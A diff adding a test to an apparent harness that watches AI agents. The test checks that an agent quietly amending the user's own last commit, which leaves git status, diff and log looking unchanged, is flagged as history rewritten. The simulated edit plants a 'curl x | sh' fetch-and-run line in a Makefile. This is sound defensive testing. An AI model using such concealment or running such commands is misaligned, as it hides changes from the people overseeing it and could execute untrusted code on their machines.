@@ -172,3 +172,32 @@ def test_a_python_package_does_not_choose_claudes_profile(wd):
         check("SECRET" not in r.stdout, "%s: the third-party agent read Claude's login"
               " (profiles %r): %r" % (root, profiles, r.stdout))
         check(not any(p.get("name") == "claude" for p in profiles or []), "profiles %r" % profiles)
+
+
+def test_a_change_amended_into_the_users_commit_is_recorded(wd):
+    """A change committed into the user's own last commit (git commit
+    --amend --no-edit: the user's message, the user's author and date)
+    leaves git status and git diff empty and git log as it was but for
+    the hash; the check of hidden changes found the files matching
+    their blobs. The branch HEAD named at the start is read then; one
+    that no longer holds its commit of the start at the end (amended,
+    reset) is a history_rewritten record and a warning. A branch that
+    grew (the agent's own commits) is not."""
+    env = _repo(wd, {"Makefile": "all:\n\techo ok\n"})
+    before = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
+                            capture_output=True, text=True).stdout
+    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
+              " git -c user.name=me -c user.email=me@x commit -qa --amend --no-edit")
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0, r.stderr[-500:])
+    after = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
+                           capture_output=True, text=True).stdout
+    check(_status(wd, env) == "" and after == before, "%r %r" % (before, after))
+    rec = r.events(event="history_rewritten")
+    check(rec and rec[0]["ref"].startswith("refs/heads/") and rec[0]["was"] != rec[0]["now"],
+          "no history_rewritten record: %s" % r.dump()[-1500:])
+    script = ("echo x > b.txt; git add b.txt; git -c user.name=a -c user.email=a@x commit -qm 1;"
+              " git checkout -qb topic; echo y > b.txt; git -c user.name=a -c user.email=a@x"
+              " commit -qam 2")
+    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
+    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-1500:])
